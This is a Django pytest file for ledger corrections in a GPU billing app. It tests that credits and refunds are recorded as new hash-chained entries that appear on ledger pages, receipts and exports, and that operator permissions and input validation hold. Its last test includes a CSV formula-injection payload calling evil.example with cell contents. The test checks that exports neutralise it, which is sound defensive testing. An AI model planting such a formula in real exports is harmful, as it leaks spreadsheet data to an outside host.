"""Corrections: an operator's refund or credit is a new ledger entry of its own kind, with its reason,
never an edit; it shows on the ledger, the receipt and the exports, and the totals add it."""

import csv
import io
import json
import re
from datetime import timedelta
from decimal import Decimal

import pytest
from django.contrib.auth.models import Permission
from django.test import Client
from django.utils import timezone

from api.models import ApiToken
from billing.metering import record_staging
from billing.models import LedgerEntry
from jobs import lifecycle
from jobs.models import Job, State
from tests.factories import make_job
from tests.support import client_for

pytestmark = pytest.mark.django_db

CORRECT = "/admin/billing/ledgerentry/correct/"


@pytest.fixture
def ended_job(organisation, partner, online_slots, rate_card):
    """A job that staged, held two slots for ten minutes and succeeded: 1.2000 USD held, staging free."""
    job = make_job(organisation, State.QUEUED, created_by=partner, gpus=2)
    start = timezone.now() - timedelta(minutes=20)
    record_staging(Job, job=job, size=10**9, started=start, finished=start + timedelta(seconds=4))
    assert lifecycle.start_hold(job, online_slots[:2])
    job.allocations.update(held_from=start + timedelta(minutes=5))
    lifecycle.release(job, at=start + timedelta(minutes=15))
    Job.objects.filter(pk=job.pk).update(state=State.SUCCEEDED, ended_at=timezone.now())
    return Job.objects.get(pk=job.pk)


def correction(job, amount="-0.5", currency="USD", reason="Slot 1 stalled for five minutes") -> dict:
    return {"job": str(job.pk), "amount": amount, "currency": currency, "reason": reason}


def test_an_operator_records_a_credit_as_an_entry_of_its_own(ended_job, operator, partner_client):
    client = client_for(operator)
    written = list(LedgerEntry.objects.order_by("pk").values())
    assert f'href="{CORRECT}"' in client.get("/admin/billing/ledgerentry/").content.decode()
    assert f'value="{ended_job.pk}"' in client.get(f"{CORRECT}?job={ended_job.pk}").content.decode()

    response = client.post(CORRECT, correction(ended_job, currency="usd", reason="  Slot 1 stalled for five minutes "))
    assert response.status_code == 302
    credit = LedgerEntry.objects.get(kind=LedgerEntry.Kind.CORRECTION)
    assert (credit.job, credit.amount, credit.currency) == (ended_job, Decimal("-0.5000"), "USD")
    assert (credit.reason, credit.recorded_by) == ("Slot 1 stalled for five minutes", "operator")
    assert list(LedgerEntry.objects.exclude(pk=credit.pk).order_by("pk").values()) == written, "nothing edited"
    assert credit.previous_hash == written[-1]["hash"], "chained after the organisation's last entry"

    page = partner_client.get("/billing/ledger/").content.decode()
    assert "Correction: Slot 1 stalled for five minutes" in page and "-0.50 USD" in page
    assert re.search(r"<tfoot>.*>0\.70 USD</th>", page, re.S), "1.20 held less the credit"
    receipt = partner_client.get(f"/billing/receipts/{ended_job.pk}/").content.decode()
    assert "Correction: Slot 1 stalled for five minutes" in receipt
    assert f'<code class="hash" title="HMAC-SHA256 {credit.hash}">{credit.hash[:12]}…</code>' in receipt
    assert '<th class="num amount">0.70 USD</th>' in receipt

    rows = list(csv.DictReader(io.StringIO(partner_client.get("/billing/ledger.csv").getvalue().decode())))
    assert rows[0] | {"held_from": "", "held_to": ""} == {
        "job": str(ended_job.pk), "kind": "correction", "gpus": "0", "held_from": "", "held_to": "", "seconds": "0",
        "gpu_hours": "0.000000", "bytes": "", "source": "", "rate": "0.0000", "currency": "USD", "amount": "-0.5000",
        "reason": "Slot 1 stalled for five minutes", "hash": credit.hash, "previous_hash": credit.previous_hash,
    }  # fmt: skip
    exported = json.loads(partner_client.get("/billing/ledger.json").getvalue())["entries"]
    assert exported[0]["reason"] == "Slot 1 stalled for five minutes" and exported[0]["hash"] == credit.hash


def test_the_job_page_costs_what_the_receipt_adds_up_after_a_credit(ended_job, operator, partner_client):
    def cost() -> str:
        page = partner_client.get(f"/jobs/{ended_job.pk}/").content.decode()
        return re.search(r"<dt>Cost</dt><dd>(.*?) <small><a", page, re.S)[1]

    assert cost() == "1.20 USD", "the hold alone: staging was free"
    assert client_for(operator).post(CORRECT, correction(ended_job)).status_code == 302
    assert cost() == '0.70 USD <small class="muted">(hold 1.20 USD, correction -0.50 USD)</small>'


def test_a_second_correction_of_one_job_is_another_entry(ended_job, operator):
    client = client_for(operator)
    assert client.post(CORRECT, correction(ended_job, amount="-1", reason="Refund: the hold")).status_code == 302
    assert client.post(CORRECT, correction(ended_job, amount="0.25", reason="Missed a charge")).status_code == 302
    amounts = LedgerEntry.objects.filter(kind="correction").order_by("pk").values_list("amount", flat=True)
    assert list(amounts) == [Decimal("-1.0000"), Decimal("0.2500")]


@pytest.mark.parametrize(
    ("change", "refusal"),
    [
        ({"reason": ""}, "This field is required."),
        ({"reason": " \n "}, "This field is required."),
        ({"amount": "0"}, "A correction of 0 changes nothing."),
        ({"amount": "-1.2001"}, "A credit of at most 1.2000 USD: what job #{job} was charged, less credits."),
        ({"amount": "-0.00001"}, "Ensure that there are no more than 4 decimal places."),
        ({"amount": "ten"}, "Enter a number."),
        ({"currency": "EUR"}, "Job #{job} was charged only in USD, not in EUR."),
        ({"currency": "US"}, "Ensure this value has at least 3 characters (it has 2)."),
        ({"job": "999999"}, "There is no job #999999."),
    ],
)
def test_it_refuses_a_correction_that_is_not_clear_and_writes_nothing(ended_job, operator, change, refusal):
    before = LedgerEntry.objects.count()
    response = client_for(operator).post(CORRECT, correction(ended_job) | change)
    assert response.status_code == 200
    assert refusal.format(job=ended_job.pk) in response.content.decode().replace("&#x27;", "'")
    assert LedgerEntry.objects.count() == before


def test_a_job_with_nothing_charged_cannot_be_credited(organisation, operator):
    job = make_job(organisation)
    response = client_for(operator).post(CORRECT, correction(job))
    assert f"Job #{job.pk} was charged nothing yet, not in USD." in response.content.decode()
    assert not LedgerEntry.objects.exists()


def test_only_operators_who_may_add_entries_record_corrections(ended_job, partner_client, django_user_model):
    assert partner_client.post(CORRECT, correction(ended_job)).status_code == 302, "to the admin's login"
    staff = django_user_model.objects.create_user("viewer", "viewer@example.com", "pw-viewer", is_staff=True)
    staff.user_permissions.add(Permission.objects.get(codename="view_ledgerentry"))
    viewer = client_for(staff)
    assert viewer.post(CORRECT, correction(ended_job)).status_code == 403
    assert "Record a correction" not in viewer.get("/admin/billing/ledgerentry/").content.decode()
    assert not LedgerEntry.objects.filter(kind="correction").exists()


def test_a_reason_a_spreadsheet_would_run_is_guarded_in_both_csv_exports_and_the_credit_stays_a_number(
    ended_job, operator, partner_client, partner
):
    reason = '=HYPERLINK("http://evil.example/?"&A1,"Refund")'
    assert client_for(operator).post(CORRECT, correction(ended_job, reason=reason)).status_code == 302
    page = list(csv.DictReader(io.StringIO(partner_client.get("/billing/ledger.csv").getvalue().decode())))
    api = Client(HTTP_AUTHORIZATION=f"Bearer {ApiToken.objects.create(user=partner, name='sheet')[1]}")
    exported = list(csv.DictReader(io.StringIO(api.get("/api/v1/ledger.csv").getvalue().decode())))
    for rows in (page, exported):
        assert (rows[0]["reason"], rows[0]["amount"]) == (f"'{reason}", "-0.5000")
    assert LedgerEntry.objects.get(kind=LedgerEntry.Kind.CORRECTION).reason == reason, "the ledger keeps it as given"
